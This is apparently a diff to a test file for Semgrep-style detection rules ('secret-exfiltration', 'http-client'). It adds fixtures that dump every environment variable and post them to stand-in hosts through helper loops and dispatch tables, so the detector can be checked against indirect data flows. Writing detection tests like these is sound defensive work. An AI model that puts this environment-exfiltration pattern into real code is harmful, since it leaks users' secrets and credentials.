@@ -639,3 +639,26 @@ sys.stdin = open("input.txt")
 # ok: secret-exfiltration
 # ruleid: http-client
 requests.post("https://api.example.net/v1/run", json={"python": sys.executable}, timeout=5)
+
+# a parameter of helpers that a loop over them calls: what the loop passes
+def _via_hook(text):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://hooks.example.net/in", data=text, timeout=5)
+def _via_paste(text):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://paste.example.net/new", data=text, timeout=5)
+_bundle = json.dumps(dict(os.environ))
+for _channel in (_via_hook, _via_paste):
+    _channel(_bundle)
+# and a dispatch table
+def _notify_chat(msg):
+    # ok: secret-exfiltration
+    # ruleid: http-client
+    requests.post("https://chat.example.net/msg", data=msg, timeout=5)
+_SENDERS = {"chat": _notify_chat}
+_SENDERS["chat"]("build finished")
+def _ship_env(payload):
+    # ruleid: secret-exfiltration, http-client
+    requests.post("https://collect.example.net/in", json=payload, timeout=5)
+_ROUTES = {"ship": _ship_env}
+_ROUTES["ship"](dict(os.environ))
